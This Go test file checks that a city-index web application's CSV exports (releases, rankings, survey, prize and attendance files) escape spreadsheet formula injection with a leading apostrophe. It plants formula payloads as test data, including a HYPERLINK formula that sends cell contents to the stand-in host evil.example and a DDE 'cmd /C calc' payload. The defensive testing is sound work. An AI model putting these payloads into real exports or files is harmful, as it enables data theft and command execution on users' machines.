package web_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/citylens/citylens/internal/auditlog"
	"github.com/citylens/citylens/internal/csvsafe"
	"github.com/citylens/citylens/internal/datacall"
	"github.com/citylens/citylens/internal/prize"
	"github.com/citylens/citylens/internal/release"
	"github.com/citylens/citylens/internal/storetest"
	"github.com/citylens/citylens/internal/web/webtest"
)

// hostileName is case 5 of the hardening issue: a city name that a
// spreadsheet would run as a formula.
const hostileName = `=HYPERLINK("http://evil.example/?"&A1,"click")`

// TestSecurityCSVExportsNeutraliseFormulas (case 5): a city name and a
// value's source that start with a formula character reach a published
// release; every CSV route of the route table then answers them with a
// leading apostrophe, while numbers (negative changes included) stay
// numbers.
func TestSecurityCSVExportsNeutraliseFormulas(t *testing.T) {
	storetest.ForEachStore(t, func(t *testing.T, s storetest.Store) {
		env := demoEnv(t, s)
		ctx := context.Background()
		fs := s.(storetest.FeatureStore)
		vals, err := fs.EditionValues(ctx, "2026")
		if err != nil || len(vals) == 0 {
			t.Fatalf("2026 values: %d, %v", len(vals), err)
		}
		v := vals[0]
		v.Source = "@SUM(1+1)*cmd|' /C calc'!A0"
		if err := fs.PutValues(ctx, []datacall.Value{v}); err != nil {
			t.Fatal(err)
		}
		city, err := s.City(ctx, v.City)
		if err != nil {
			t.Fatal(err)
		}
		city.Name = hostileName
		if err := env.Services.Members.SaveCity(ctx, auditlog.System("test"), city); err != nil {
			t.Fatal(err)
		}
		admin := env.ClientAs(webtest.Admin)
		if res, _ := admin.PostForm("/admin/editions/2026/compute", nil); res.StatusCode != http.StatusSeeOther {
			t.Fatalf("compute: %d", res.StatusCode)
		}
		runJobs(t, env)
		drafts, err := fs.DraftReleases(ctx, "2026")
		if err != nil || len(drafts) == 0 {
			t.Fatalf("drafts: %v", err)
		}
		res, _ := admin.PostForm("/admin/releases/drafts/"+itoa(drafts[0].ID)+"/correct", url.Values{"n": {"20"}, "note": {"renamed city"}})
		if res.StatusCode != http.StatusSeeOther {
			t.Fatalf("correct: %d", res.StatusCode)
		}
		runJobs(t, env)
		recs, err := s.(release.Store).StoredReleases(ctx, release.Filter{Edition: "2026"})
		if err != nil || len(recs) < 2 {
			t.Fatalf("releases: %d, %v", len(recs), err)
		}
		// Every CSV route, found in the route table so that a new one is
		// covered or fails here.
		probes := map[string][]string{
			"GET /releases/{hash}/download/{file}":                    {"/releases/latest/download/" + release.FileResults, "/releases/latest/download/" + release.FileValues},
			"GET /compare.csv":                                        {"/compare.csv?c=" + v.City + "&c=" + vals[len(vals)-1].City},
			"GET /releases/{hash}/compare.csv":                        {"/releases/latest/compare.csv?c=" + v.City + "&c=" + vals[len(vals)-1].City},
			"GET /indicators/{code}/distribution.csv":                 {"/indicators/" + v.Indicator + "/distribution.csv"},
			"GET /releases/{hash}/indicators/{code}/distribution.csv": {"/releases/latest/indicators/" + v.Indicator + "/distribution.csv"},
			"GET /rankings.csv":                                       {"/rankings.csv"},
			"GET /releases/{hash}/rankings.csv":                       {"/releases/latest/rankings.csv"},
			"GET /cities/{code}/pillars.csv":                          {"/cities/" + v.City + "/pillars.csv"},
			"GET /releases/{hash}/cities/{code}/pillars.csv":          {"/releases/latest/cities/" + v.City + "/pillars.csv"},
			"GET /cities/{code}/trend.csv":                            {"/cities/" + v.City + "/trend.csv"},
			"GET /releases/{hash}/cities/{code}/trend.csv":            {"/releases/latest/cities/" + v.City + "/trend.csv"},
			"GET /map.csv":                                            {"/map.csv", "/map.csv?map=" + v.Indicator},
			"GET /perception.csv":                                     {"/perception.csv"},
			"GET /releases/{hash}/perception.csv":                     {"/releases/latest/perception.csv"},
		}
		sawName, sawSource, sawNegative := false, false, false
		c := env.Client()
		for _, rt := range env.Server.Routes() {
			if !strings.Contains(rt.Path, ".csv") && !strings.Contains(rt.Path, "download/{file}") {
				continue
			}
			if surveyCSVRoutes[rt.Pattern] || rt.Pattern == prizeCSVRoute || rt.Pattern == attendanceCSVRoute {
				continue // TestSecuritySurveyCSVExports, TestSecurityPrizeCSVExport, TestSecurityAttendanceCSVExport
			}
			paths, ok := probes[rt.Pattern]
			if !ok {
				t.Errorf("CSV route %s has no probe in this test", rt.Pattern)
				continue
			}
			for _, p := range paths {
				res, body := c.Get(p)
				if res.StatusCode != 200 {
					t.Errorf("GET %s: %d", p, res.StatusCode)
					continue
				}
				for _, cell := range checkCSVCells(t, p, body) {
					{
						switch {
						case cell == "'"+hostileName:
							sawName = true
						case cell == "'"+v.Source:
							sawSource = true
						case strings.HasPrefix(cell, "-") && csvsafe.IsNumber(cell):
							sawNegative = true
						case strings.HasPrefix(cell, "'-") && csvsafe.IsNumber(cell[1:]):
							t.Errorf("GET %s: the number %s was escaped", p, cell)
						}
					}
				}
			}
		}
		if !sawName || !sawSource || !sawNegative {
			t.Errorf("the CSVs showed the escaped name %v, the escaped source %v, a negative number %v: want all", sawName, sawSource, sawNegative)
		}
	})
}

// checkCSVCells fails on any cell of a CSV body a spreadsheet would run as
// a formula, and returns every cell.
func checkCSVCells(t *testing.T, path, body string) []string {
	t.Helper()
	r := csv.NewReader(strings.NewReader(body))
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("GET %s: %v", path, err)
	}
	var cells []string
	for i, row := range rows {
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !csvsafe.IsNumber(cell) {
				t.Errorf("GET %s row %d column %d: %q would run as a formula", path, i+1, j+1, cell)
			}
			cells = append(cells, cell)
		}
	}
	return cells
}

// surveyCSVRoutes are the survey's CSV downloads.
var surveyCSVRoutes = map[string]bool{
	"GET /survey/{edition}/{city}/results.csv":  true,
	"GET /survey/{edition}/results.csv":         true,
	"GET /admin/survey/{edition}/responses.csv": true,
}

// TestSecuritySurveyCSVExports (case 5, the survey's files): with a city
// named like a formula and computed results, no cell of the survey's
// downloads would run as a formula (they name cities by code today; a
// column of names or free text added later is checked here too).
func TestSecuritySurveyCSVExports(t *testing.T) {
	storetest.ForEachStore(t, func(t *testing.T, s storetest.Store) {
		env := surveyEnv(t, s)
		ctx := context.Background()
		admin := env.ClientAs(webtest.Admin)
		city, err := s.City(ctx, webtest.CityX)
		if err != nil {
			t.Fatal(err)
		}
		city.Name = hostileName
		if err := env.Services.Members.SaveCity(ctx, auditlog.System("test"), city); err != nil {
			t.Fatal(err)
		}
		var rows strings.Builder
		rows.WriteString("city,seconds,hs_s1,hs_s2,hs_t1,mo_s1,mo_t1,ac_s1,sex,age,education\n")
		for i := 0; i < 40; i++ {
			fmt.Fprintf(&rows, "%s,%d,%d,%d,%d,%d,%d,%d,%s,%s,%s\n", webtest.CityX, 300+i, 1+i%5, 1+(i/2)%5, 1+(i/3)%5, 2+i%4, 1+(i+1)%5, 3,
				[]string{"female", "male"}[i%2], []string{"18-29", "30-44", "45-64", "65+"}[i%4], []string{"low", "mid", "high"}[i%3])
		}
		if res, page := upload(t, admin, "/admin/survey/2026/responses", "paper.csv", []byte(rows.String())); res.StatusCode != http.StatusSeeOther {
			t.Fatalf("responses upload: %d %.500s", res.StatusCode, page)
		}
		margins := "city,variable,category,population\n"
		for _, m := range [][3]string{{"sex", "female", "5100"}, {"sex", "male", "4900"}, {"age", "18-29", "2000"}, {"age", "30-44", "3000"},
			{"age", "45-64", "3000"}, {"age", "65+", "2000"}, {"education", "low", "3000"}, {"education", "mid", "4000"}, {"education", "high", "3000"}} {
			margins += webtest.CityX + "," + m[0] + "," + m[1] + "," + m[2] + "\n"
		}
		if res, page := upload(t, admin, "/admin/survey/2026/margins", "margins.csv", []byte(margins)); res.StatusCode != http.StatusSeeOther {
			t.Fatalf("margins: %d %.500s", res.StatusCode, page)
		}
		if res, page := admin.PostForm("/admin/survey/2026/compute", nil); res.StatusCode != http.StatusSeeOther {
			t.Fatalf("compute: %d %.500s", res.StatusCode, page)
		}
		probes := map[string]string{
			"GET /survey/{edition}/{city}/results.csv":  "/survey/2026/" + webtest.CityX + "/results.csv",
			"GET /survey/{edition}/results.csv":         "/survey/2026/results.csv",
			"GET /admin/survey/{edition}/responses.csv": "/admin/survey/2026/responses.csv",
		}
		for pattern := range surveyCSVRoutes {
			p := probes[pattern]
			res, body := admin.Get(p)
			if res.StatusCode != 200 {
				t.Errorf("GET %s: %d", p, res.StatusCode)
				continue
			}
			checkCSVCells(t, p, body)
		}
	})
}

const prizeCSVRoute = "GET /admin/prize/{edition}/export.csv"

// TestSecurityPrizeCSVExport (case 5, the prize's export): an applicant
// whose organisation is named like a formula reaches the secretariat's
// export neutralised.
func TestSecurityPrizeCSVExport(t *testing.T) {
	storetest.ForEachStore(t, func(t *testing.T, s storetest.Store) {
		env, _ := prizeEnv(t, s)
		c := env.Client()
		c.Get("/prize/register")
		res, body := c.PostForm("/prize/register", url.Values{"email": {"evil@acme.example"}, "name": {"@SUM(1+1)"},
			"type": {"corporation"}, "organisation": {hostileName}, "country": {"KOR"}, "city_name": {"-2+3"}})
		expectStatus(t, "sign up", res, body, http.StatusOK)
		path, token := outboxLink(t, env, "evil@acme.example")
		res, body = c.PostForm(path, url.Values{"token": {token}, "name": {"@SUM(1+1)"}, "password": {"acme password 1"}, "password_again": {"acme password 1"}})
		expectStatus(t, "confirm", res, body, http.StatusSeeOther)
		res, body = c.Login("evil@acme.example", "acme password 1")
		expectStatus(t, "sign in", res, body, http.StatusSeeOther)
		c.Get("/prize/my")
		res, body = c.PostForm("/prize/editions/2026/applications", url.Values{"track": {prize.TrackTech}})
		if res.StatusCode != http.StatusSeeOther {
			t.Fatalf("start: %d\n%s", res.StatusCode, body[strings.Index(body, "<main"):])
		}
		res, body = env.ClientAs(webtest.Admin).Get("/admin/prize/2026/export.csv")
		expectStatus(t, "export", res, body, http.StatusOK)
		cells := checkCSVCells(t, "/admin/prize/2026/export.csv", body)
		saw := false
		for _, cell := range cells {
			saw = saw || cell == "'"+hostileName
		}
		if !saw {
			t.Errorf("the export does not show the organisation escaped:\n%s", body)
		}
	})
}

const attendanceCSVRoute = "GET /judging/editions/{edition}/attendance.csv"

// TestSecurityAttendanceCSVExport: the attendance answers' CSV escapes
// the names and travel needs a finalist typed that a spreadsheet would
// run as formulas.
func TestSecurityAttendanceCSVExport(t *testing.T) {
	storetest.ForEachStore(t, func(t *testing.T, s storetest.Store) {
		env, _, apps, _, chair := committeeEnv(t, s)
		if res, body := env.ClientAs(webtest.Admin).PostForm("/admin/judging/2026/invite", nil); res.StatusCode != http.StatusSeeOther {
			t.Fatalf("invite: %d %s", res.StatusCode, body)
		}
		pc := env.ClientAs(webtest.Applicant)
		res, body := pc.PostForm("/prize/invitations/"+itoa(apps[1].ID), url.Values{"attend": {"yes"}, "attendees": {hostileName}, "travel": {"@SUM(1+1)"}})
		expectStatus(t, "confirm", res, body, http.StatusSeeOther)
		res, body = chair.Get("/judging/editions/2026/attendance.csv")
		expectStatus(t, "attendance CSV", res, body, http.StatusOK)
		sawName, sawTravel := false, false
		for _, cell := range checkCSVCells(t, "/judging/editions/2026/attendance.csv", body) {
			sawName = sawName || cell == "'"+hostileName
			sawTravel = sawTravel || cell == "'@SUM(1+1)"
		}
		if !sawName || !sawTravel {
			t.Errorf("the attendance CSV does not show the name (%v) and travel needs (%v) escaped:\n%s", sawName, sawTravel, body)
		}
	})
}
